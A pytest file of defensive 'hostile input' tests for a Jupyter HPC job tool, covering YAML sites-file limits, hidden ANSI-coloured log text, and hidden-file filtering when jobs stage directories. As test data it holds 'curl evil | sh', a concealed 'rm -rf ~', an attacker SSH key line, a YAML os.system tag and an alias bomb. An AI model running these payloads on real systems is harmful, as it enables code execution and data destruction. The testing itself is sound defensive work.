"""The tenth sweep of hostile inputs: what the ninth left (a job's colours that hide its own
text in `diamond logs`, a sites file near its size bound read slowly, a tool call's job that
stages a directory back), then new attacks on what no sweep covered.

The standard is the earlier sweeps' (tests/test_adversarial_inputs.py and after): bad input
is refused with one line naming what, where and what would be accepted; what comes from a
site, a job or a service is data, never a command, a record, a line of its own or a path
outside its place. Tests of attacks that already failed safely say so ("guard")."""

from __future__ import annotations

import gc
from pathlib import Path
from typing import Any

import pytest
import yaml
from sweep_helpers import FakeTty, logs_answer

from diamond_jupyter.model import BadInput

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")


# -- 1. a sites file near its size bound -----------------------------------------------------------

def _sites_text(n: int) -> str:
    return "sites:\n" + "".join(f"  - {{name: s{i}, transport: {{kind: local}}}}\n"
                                for i in range(n))


def _write(tmp_path: Path, text: str) -> Path:
    p = tmp_path / "sites.yaml"
    p.write_text(text)
    p.chmod(0o600)
    return p


@pytest.fixture
def no_python_scanner(monkeypatch):
    """PyYAML's pure-Python scanner made to fail: what still reads was read by libyaml."""
    def refuse(self: Any) -> None:
        raise AssertionError("read by PyYAML's pure-Python scanner")
    monkeypatch.setattr(yaml.scanner.Scanner, "fetch_more_tokens", refuse)


def test_this_pyyaml_has_libyaml():
    """The venv's PyYAML is built with libyaml (what the sites file's reader relies on)."""
    assert yaml.__with_libyaml__ and hasattr(yaml, "CSafeLoader")


def test_a_sites_file_is_read_by_libyaml(tmp_path, no_python_scanner):
    """A sites file of 4 MB (40,000 entries) took PyYAML's pure-Python reader about 20 s
    before it was refused. It is read by libyaml now (the same safe constructor)."""
    from diamond_jupyter.config import load_config

    cfg = load_config(_write(tmp_path, _sites_text(3)))
    assert [s.name for s in cfg.sites] == ["s0", "s1", "s2"]


@pytest.mark.parametrize("text,error", [
    ("sites:\n  - {name: a, transport: {kind: local}}\n  - {name: a, name: b}\n",
     r"key 'name' is given twice \(first on line 3\)"),
    ("sites: !!python/object/apply:os.system [id]\n", r"could not determine a constructor"),
    ("sites:\n  - name: a\n    metadata: {x: " + "[" * 80 + "]" * 80 + "}\n",
     r"collections nested more than 64 deep"),
])
def test_libyaml_reads_with_the_same_safety(tmp_path, monkeypatch, text, error):
    """What the pure-Python reader refused libyaml's refuses too: a key given twice, a
    Python tag, flow collections nested past 64 (libyaml itself stops only at 1,000)."""
    from diamond_jupyter import strict_yaml
    from diamond_jupyter.config import load_config

    monkeypatch.setattr(strict_yaml, "RETELL_MAX_CHARS", 0)  # libyaml's own error
    with pytest.raises(BadInput, match=error):
        load_config(_write(tmp_path, text))


def test_reading_a_big_sites_file_runs_no_cycle_collection():
    """The reader's cost grew with the square of the file (4,000 sites 0.18 s, 32,000 sites
    2.9 s, in C): Python's cycle collector walked every node made so far, again and again.
    It is paused while a tree is built (and its state restored after: at most one
    collection follows each reading, where 20,000 sites ran hundreds)."""
    from diamond_jupyter.strict_yaml import compose, strict_load

    runs: list[int] = []

    def count(phase: str, info: dict[str, int]) -> None:
        if phase == "start":
            runs.append(info["generation"])

    text = _sites_text(20_000)
    gc.callbacks.append(count)
    try:
        assert len(strict_load(text)["sites"]) == 20_000
        assert compose(text) is not None
    finally:
        gc.callbacks.remove(count)
    assert len(runs) <= 2 and gc.isenabled()


def test_a_sites_file_of_more_sites_than_the_bound_is_refused_by_count(tmp_path):
    """1,001 sites (each is checked, connected to and polled): refused naming the count and
    the bound, before the entries are checked one by one; 1,000 are read."""
    from diamond_jupyter.config import MAX_SITES, load_config

    assert MAX_SITES == 1_000
    with pytest.raises(BadInput, match=r"lists 1001 sites; a sites file lists at most 1000"):
        load_config(_write(tmp_path, _sites_text(1_001)))
    assert len(load_config(_write(tmp_path, _sites_text(1_000))).sites) == 1_000


def test_a_big_sites_file_that_is_no_yaml_says_where_without_the_slow_reader(
        tmp_path, no_python_scanner):
    """A sites file past the size the pure-Python reader retells (256 KiB) whose last line
    is no YAML: libyaml's error, with its line, not a second slow reading."""
    from diamond_jupyter.config import load_config

    text = _sites_text(6_000) + "  - {name: x\n"
    with pytest.raises(BadInput, match=r"is not valid YAML: line 6003, column \d+: "):
        load_config(_write(tmp_path, text))


def test_a_small_sites_file_that_is_no_yaml_gets_the_same_message_as_before(tmp_path):
    """(the same, small) PyYAML's pure-Python reader retells it: the messages (and hints)
    the faces showed before stay."""
    from diamond_jupyter.config import load_config

    with pytest.raises(BadInput, match=r"line 3, column 1: expected ',' or '}', but got "
                                       r"'<stream end>'"):
        load_config(_write(tmp_path, "sites:\n  - {name: x\n"))


def test_a_sites_file_with_a_tab_between_key_and_value_is_refused_as_before(tmp_path):
    """libyaml takes `name:<TAB>value` (YAML allows a tab there); this reader refuses it,
    saying to put a space: a text with a tab is read by the pure-Python reader."""
    from diamond_jupyter.config import load_config

    with pytest.raises(BadInput, match=r"a tab after other text on the line"):
        load_config(_write(tmp_path, "sites:\n  - name:\ta\n"))


# -- 2. a job's colours in `diamond logs`, the magics and the card ---------------------------

_SEQ = __import__("re").compile(r"\x1b\[([0-9;:]*)m")


def _drawn(shown: str) -> list[tuple[str, Any, Any, bool]]:
    """Each printed character of `shown` with the foreground, background and concealment
    a terminal gives it (an independent reading of the SGR forms the tests use: 0, 8, 28,
    30-37, 39, 40-47, 49, 90-97, 100-107, 38/48;5;N, 38/48;2;R;G;B)."""
    fg = bg = None
    hidden = False
    out = []
    at = 0
    for m in [*_SEQ.finditer(shown), None]:
        end = m.start() if m else len(shown)
        out += [(c, fg, bg, hidden) for c in shown[at:end] if c.strip()]
        if m is None:
            break
        at = m.end()
        ps: list[Any] = []
        for x in (m.group(1) or "0").split(";"):  # ITU's 38:2::R:G:B and 48:5:N as one
            sub = x.split(":")
            ps.append(int(x) if len(sub) == 1 else (int(sub[0]), (
                ("i", int(sub[2])) if sub[1] == "5" else ("rgb", tuple(map(int, sub[-3:]))))))
        i = 0
        while i < len(ps):
            p = ps[i]
            i += 1
            if isinstance(p, tuple):
                fg, bg = (p[1], bg) if p[0] == 38 else (fg, p[1])
            elif p == 0:
                fg = bg = None
                hidden = False
            elif p == 8:
                hidden = True
            elif p == 28:
                hidden = False
            elif 30 <= p <= 37 or 90 <= p <= 97:
                fg = ("i", p - 30 if p < 90 else p - 82)
            elif 40 <= p <= 47 or 100 <= p <= 107:
                bg = ("i", p - 40 if p < 100 else p - 92)
            elif p in (38, 48):
                c = ("i", ps[i + 1]) if ps[i] == 5 else ("rgb", tuple(ps[i + 1:i + 4]))
                i += 2 if ps[i] == 5 else 4
                fg, bg = (c, bg) if p == 38 else (fg, c)
            elif p == 39:
                fg = None
            elif p == 49:
                bg = None
    return out


def _same(a: Any, b: Any) -> bool:
    """The same colour: equal, or both black, or both white (xterm's palette)."""
    black = {("i", 0), ("i", 16), ("rgb", (0, 0, 0))}
    white = {("i", 7), ("i", 15), ("i", 231), ("rgb", (255, 255, 255))}
    return a is not None and b is not None and (a == b or {a, b} <= black or {a, b} <= white)


@pytest.mark.parametrize("text", [
    "\x1b[8msecret\x1b[0m",  # concealed
    "\x1b[1;8;31msecret\x1b[0m",  # concealed among others
    "\x1b[30;40msecret\x1b[0m",  # black on black
    "\x1b[97;107msecret\x1b[0m",  # white on white
    "\x1b[30m\x1b[40msecret\x1b[0m",  # across two sequences
    "\x1b[38;5;16;40msecret\x1b[0m",  # palette black on basic black
    "\x1b[38;2;0;0;0;48;2;0;0;0msecret",  # RGB
    "\x1b[38;5;231;47;107msecret",  # white on a light grey then white
    "\x1b[38:2::0:0:0;48:5:0msecret",  # ITU colon forms
])
def test_a_jobs_colours_hide_none_of_its_text_on_a_terminal(text):
    """A job wrote `curl evil | sh` to its output hidden from the reader of `diamond logs`:
    concealed (SGR 8), black on black, white on white, across two sequences, in 256-colour
    or RGB forms. Its colours still show, but every character is drawn readable: 8 is
    dropped, a foreground equal to the background becomes white or black (whichever the
    background is not)."""
    from diamond_jupyter.cli.jobs import _write_output

    out = FakeTty()
    _write_output(out, text)
    drawn = _drawn(out.text)
    assert "".join(c for c, *_ in drawn) == "secret"
    for c, fg, bg, hidden in drawn:
        assert not hidden and not _same(fg, bg), (c, fg, bg, out.text)


def test_a_jobs_colours_that_hide_nothing_stay_as_written():
    """(the same) Red, bold, a background with another foreground: as the job wrote them."""
    from diamond_jupyter.cli.jobs import _write_output

    out = FakeTty()
    text = "\x1b[1;31mFAILED\x1b[0m \x1b[30;47mnote\x1b[0m \x1b[38;5;196mhot\x1b[0m\n"
    _write_output(out, text)
    assert out.text == text


def test_a_jobs_colours_left_set_are_reset_before_diamonds_own_lines():
    """A job's output that ends in black (`\\e[30m`, never reset): diamond's own note printed
    after it ("has written nothing to its stderr", a missing file) was drawn in the job's
    colour (black on a black terminal). The colours are reset at the end of the job's text."""
    from diamond_jupyter.cli.jobs import _write_output
    from diamond_jupyter.model import visible

    out = FakeTty()
    _write_output(out, "done \x1b[30;1m")
    assert out.text == "done \x1b[30;1m\x1b[0m"
    assert visible("a \x1b[31mb\x1b[0m c", keep_colour=True) == "a \x1b[31mb\x1b[0m c"


def test_diamond_logs_plain_writes_every_sequence_out(monkeypatch, capsys):
    """`diamond logs --plain`: on a terminal the colour sequences are written out as text
    too (what the job wrote, byte for byte visible); without it they are shown as colours."""
    from diamond_jupyter.cli import jobs as cli_jobs
    from diamond_jupyter.cli.main import build_parser

    logs = {"stdout": "\x1b[8mhidden\x1b[0m\n", "stderr": "", "missing": "", "notes": ""}
    logs_answer(monkeypatch, logs)
    out = FakeTty()
    monkeypatch.setattr(cli_jobs.sys, "stdout", out)
    args = build_parser().parse_args(["logs", "alpha:1", "--plain"])
    assert args.plain is True
    cli_jobs.cmd_logs(args)
    assert out.text == "\\x1b[8mhidden\\x1b[0m\n"
    out.text = ""
    cli_jobs.cmd_logs(build_parser().parse_args(["logs", "alpha:1"]))
    assert out.text == "hidden\x1b[0m\n"


def test_the_magics_card_text_drops_concealed_text_too():
    """The job card's text (IPython in a terminal) shows the job's stdout tail with the
    same rule: concealed text is shown."""
    from diamond_jupyter.kernel.jobcard import render_text
    from diamond_jupyter.model import Job, JobState

    job = Job(id="a:1", site="a", native_id="1", name="x", state=JobState.COMPLETED,
              exit_code=0)
    text = render_text(job, {"stdout": "ok \x1b[8;30;40mrm -rf ~\n"})
    assert "\x1b[8" not in text and "rm -rf ~" in text
    assert all(not h and not _same(fg, bg) for _, fg, bg, h in _drawn(text))


# -- 3. a tool call's job that stages a directory ------------------------------------------------

def _job_tree(top: Path) -> None:
    """A job's output directory with hidden entries at two depths."""
    (top / "sub" / ".ssh").mkdir(parents=True)
    (top / "sub" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    (top / ".bashrc").write_text("curl evil | sh\n")
    (top / "result.csv").write_text("a,b\n")
    (top / "sub" / "data.txt").write_text("d\n")


async def _staged_out(fed: Any, job_id: str) -> Any:
    import asyncio

    async def wait() -> Any:
        async for ev in fed.events(since=0):
            if ev.kind in ("stage.out.done", "stage.out.failed") and ev.job_id == job_id:
                return ev
    return await asyncio.wait_for(wait(), 60)


@pytest.mark.parametrize("approval", ["auto", "ask"])
async def test_a_tool_calls_job_stages_a_directory_back_without_its_hidden_entries(
        tmp_path, monkeypatch, approval):
    """The ninth sweep refused a tool call's job whose `stage_out` copied a directory back
    here (its `.bashrc` and `sub/.ssh/authorized_keys` came along), so the model could not
    bring back a job's results at all. It is allowed now with the hidden entries left out
    at any depth: the plan a person approves says so for that copy, the submit's result
    says so, and the job's reason after its stage-out names what was left out."""
    from test_wait_unreachable import Site as FakeSlurm

    from diamond_jupyter.federation import Federation
    from diamond_jupyter.model import JobState
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    site = FakeSlurm(tmp_path, monkeypatch)
    results = tmp_path / "results"
    _job_tree(results)
    dest = tmp_path / "back"
    site.ends("77")
    fed = Federation(site.config, min_poll_s=0.2, poll_interval_s=0.5)
    await fed.start(recover=False)
    args = {"site": "alpha", "spec": {"command": "true", "stage_out": [
        {"source": str(results), "destination": str(dest), "recursive": True}]}}
    try:
        approved = None
        if approval == "ask":
            with pytest.raises(NeedsApproval) as asked:
                await run_skill(SkillContext(fed, approval="ask"), "submit", args)
            approved = asked.value.plan
            moves = [m for m in approved["data_movements"] if m["direction"] == "out"]
            assert "every name starting with '.'" in moves[0]["hidden_entries"]
        out = await run_skill(SkillContext(fed, approval=approval, approved=approved),
                              "submit", args)
        assert "stage_out[0]: hidden entries left out" in out.message
        ev = await _staged_out(fed, out.job.id)
        assert ev.kind == "stage.out.done", ev.data
        job = fed.job(out.job.id)
    finally:
        await fed.close()
    got = sorted(str(p.relative_to(dest)) for p in dest.rglob("*"))
    assert got == ["result.csv", "sub", "sub/data.txt"]
    assert job.state == JobState.COMPLETED
    assert job.reason.startswith("stage-out left out 2 hidden entries (a tool call's job "
                                 "copies none): ")
    assert ".bashrc" in job.reason and "sub/.ssh/" in job.reason


async def test_a_tool_calls_job_stages_in_a_directory_without_its_hidden_entries(
        tmp_path, monkeypatch):
    """A tool call's job staging in a directory of this machine (the server's root, under
    JupyterHub the home: `stage_in: [{source: ".", recursive: true}]`): the path itself
    is not hidden, so it went, with `.ssh/id_ed25519` inside, to a site where the job's
    script may send it anywhere. Its hidden entries are left out now."""
    from test_wait_unreachable import Site as FakeSlurm

    from diamond_jupyter.federation import Federation
    from diamond_jupyter.skills import SkillContext, run_skill

    site = FakeSlurm(tmp_path, monkeypatch)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (home / "input.dat").write_text("x\n")
    fed = Federation(site.config, min_poll_s=0.2, poll_interval_s=0.5)
    fed.server_root = home
    wd = tmp_path / "work" / "job1"
    await fed.start(recover=False)
    try:
        out = await run_skill(SkillContext(fed, approval="auto"), "submit", {
            "site": "alpha", "spec": {"command": "true", "working_directory": str(wd),
                                      "stage_in": [{"source": str(home), "destination": "in",
                                                    "recursive": True}]}})
        assert "stage_in[0]: hidden entries left out" in out.message
        import asyncio

        async def staged_in() -> Any:
            async for ev in fed.events(since=0):
                if ev.kind in ("stage.in.done", "stage.in.failed") and \
                        ev.job_id == out.job.id:
                    return ev
        ev = await asyncio.wait_for(staged_in(), 60)
        assert ev.kind == "stage.in.done", ev.data
    finally:
        await fed.close()
    sent = sorted(str(p.relative_to(wd / "in")) for p in (wd / "in").rglob("*"))
    assert sent == ["input.dat"]


def test_a_staging_entry_left_as_written_copies_hidden_entries():
    """(the field) A person's own job (the CLI, a cell) stages as written: `skip_hidden` is
    off unless a tool call sets it."""
    from diamond_jupyter.model import JobSpec

    spec = JobSpec(command="true", stage_out=[{"source": "out/", "destination": "r/",
                                               "recursive": True}])
    assert spec.stage_out[0].skip_hidden is False


# -- 4. new attacks --------------------------------------------------------------------------

def _local_fed(tmp_path: Path) -> Any:
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    return Federation(FederationConfig(sites=[SiteConfig(
        name="here", transport=TransportConfig(kind="local"), workdir=str(tmp_path / "wd"))]),
        store=Store(tmp_path / "s.sqlite"))


@pytest.mark.parametrize("kind", ["fifo", "zero", "urandom"])
async def test_a_jobs_log_that_is_a_fifo_or_a_device_is_not_read(tmp_path, kind):
    """A job replaced its stdout file with a FIFO (no writer: `tail` waited for ever) or a
    link to /dev/zero or /dev/urandom (never ends): `diamond logs` waited for the site's
    command timeout (300 s by default), then failed whole, its stderr unshown. Now such a
    file is not read, said on its own line; the other stream is shown."""
    import asyncio
    import os

    from diamond_jupyter.model import Job, JobState

    fed = _local_fed(tmp_path)
    out = tmp_path / "out.log"
    if kind == "fifo":
        os.mkfifo(out)
    else:
        os.symlink(f"/dev/{kind}", out)
    err = tmp_path / "err.log"
    err.write_text("the job's stderr\n")
    fed.store.upsert_job(Job(id="here:1", site="here", native_id="1", name="x",
                             state=JobState.COMPLETED, stdout_path=str(out),
                             stderr_path=str(err)))
    try:
        logs = await asyncio.wait_for(fed.logs("here:1"), 60)
    finally:
        await fed.close()
    assert logs["stdout"] == "" and logs["stderr"] == "the job's stderr\n"
    assert logs["missing"] == (f"stdout log: here: {out} is not a regular file (a FIFO, a "
                               "device or a link to one): not read")


def test_a_module_listing_of_a_million_lines_is_read_up_to_its_bound():
    """A login's `module avail` (a wrapper on the PATH, a broken module tree) answering 10^6
    lines: each was read (12 s) and kept, and matched at every placement. The first
    200,000 lines are read, and the rest is said not read."""
    from diamond_jupyter.discovery import MAX_MODULE_LINES, parse_module_list

    text = "/opt/mods:\n" + "".join(f"pkg{i}/1.{i}\n" for i in range(1_000_000))
    refused: list[str] = []
    _, _, modules = parse_module_list(text, refused)
    assert len(modules) == MAX_MODULE_LINES - 1 == 199_999  # (the tree's header line)
    assert refused == ["(the listing past its first 200000 lines: not read)"]


@pytest.mark.parametrize("name", ["..", ".", "../x", "a/b", "", "x\x00y"])
def test_a_remote_listing_naming_parent_entries_is_no_file_of_the_copy(name):
    """(guard) A hostile server's directory listing names `..`, `../x`, `a/b`, an empty or
    NUL-holding name: none is a file of the copy (written outside the destination), each
    is listed as skipped."""
    import stat

    from diamond_jupyter.transfer.sftp import Walk

    w = Walk(root="alpha:/out")
    assert w.entry("", name, stat.S_IFREG | 0o644) is None
    assert w.entry("", name, stat.S_IFDIR | 0o755) is None
    assert w.files == [] and all("not a plain file name" in s for s in w.skipped)


@pytest.mark.parametrize("kind", ["fifo", "zero"])
async def test_a_result_file_that_is_a_fifo_or_a_device_link_is_not_fetched(tmp_path, kind):
    """(guard) A job's result directory holding a FIFO or a link to /dev/zero: the fetch
    does not wait on it or copy for ever; it is not fetched (the site's listing of result
    files holds regular files only, so it is left out without being named: see README)."""
    import asyncio
    import os

    from diamond_jupyter.model import JobSpec

    fed = _local_fed(tmp_path)
    wd = tmp_path / "wd"
    wd.mkdir()
    (wd / "ok.txt").write_text("ok\n")
    if kind == "fifo":
        os.mkfifo(wd / "bad")
    else:
        os.symlink("/dev/zero", wd / "bad")
    fed.store.record_intent("here", "abc123abc123", JobSpec(script="true\n",
                                                            working_directory=str(wd)))
    fed.store.bind_native_id("abc123abc123", "41")
    try:
        got = await asyncio.wait_for(fed.fetch("here:41", tmp_path / "back"), 60)
    finally:
        await fed.close()
    assert [p.name for p in got.paths] == ["ok.txt"]
    assert not (tmp_path / "back" / "bad").exists()


def test_a_colour_sequence_of_a_hundred_thousand_parameters_is_read_once():
    """(the colour reader) One sequence of 100,000 parameters, concealment among them: read
    in one pass, concealment dropped, the text shown."""
    from diamond_jupyter.model import visible

    shown = visible("\x1b[" + "1;" * 50_000 + "8;" * 50_000 + "31mhidden", keep_colour=True)
    assert "hidden" in shown and ";8" not in shown and "8;" not in shown


def test_a_sites_file_alias_bomb_is_refused_with_libyaml(tmp_path, no_python_scanner):
    """(guard, libyaml) A 'billion laughs' of aliases: refused by the expanded-value bound,
    read in C without expanding it."""
    from diamond_jupyter.config import load_config

    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"] + [
        f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
        f"*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 9)]
    text = "x-bomb:\n" + "".join(f"  {line}\n" for line in levels) + \
        "sites:\n  - {name: a, transport: {kind: local}, metadata: {v: *a8}}\n"
    with pytest.raises(BadInput, match=r"aliases \(&name, \*name\) make it hold more than "
                       r"100,000 values"):
        load_config(_write(tmp_path, text))


def test_a_thousand_and_one_sites_made_of_aliases_are_refused_by_count(tmp_path):
    """(the bound) 1,001 sites spelled as 1,001 aliases of one entry (a few KB): refused by
    the count, not by the file's size."""
    from diamond_jupyter.config import load_config

    text = "sites:\n  - &s {name: a, transport: {kind: local}}\n" + "  - *s\n" * 1_000
    with pytest.raises(BadInput, match=r"lists 1001 sites; a sites file lists at most 1000"):
        load_config(_write(tmp_path, text))


@pytest.mark.parametrize("depth", [200, 999, 5_000])
def test_a_workflow_nested_hundreds_of_blocks_deep_is_bad_input(depth):
    """(guard, libyaml) A colleague's workflow whose block mappings nest hundreds or
    thousands of levels: bad input (libyaml stops at 1,000; below that the tree is built
    without recursion and refused as no workflow), never a RecursionError or a crash."""
    from diamond_jupyter.workflow.model import load_workflow

    text = "name: w\nsteps:\n" + "".join(" " * (2 + i) + f"k{i}:\n" for i in range(depth)) + \
        " " * (2 + depth) + "v\n"
    with pytest.raises(BadInput):
        load_workflow(text, sites=("alpha",))


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x7f", "\ufffe"])
def test_a_sites_file_holding_a_control_character_is_refused_with_libyaml(tmp_path, char):
    """(guard, libyaml) A NUL, an ESC, DEL or a non-character in a sites file: refused as
    no valid YAML, naming the character and its position, not read as a value."""
    from diamond_jupyter.config import load_config

    with pytest.raises(BadInput, match=r"is not valid YAML: unacceptable character #x"
                                       r"[0-9a-f]+: special characters are not allowed"):
        load_config(_write(tmp_path, f"sites:\n  - {{name: a{char}b, transport: "
                                     "{kind: local}}\n"))


def test_a_job_name_holding_colours_is_written_out_in_listings():
    """(guard) Another user's job named with colour sequences (`\\e[8m` to hide the rest of
    a row, `\\e[30;40m`): the queue and job tables write every sequence out, colours too."""
    from diamond_jupyter.model import one_line

    row = one_line("sim\x1b[8m\tHIDDEN\x1b[30;40mX")
    assert "\x1b" not in row and "\\x1b[8m" in row and "\\x09" in row
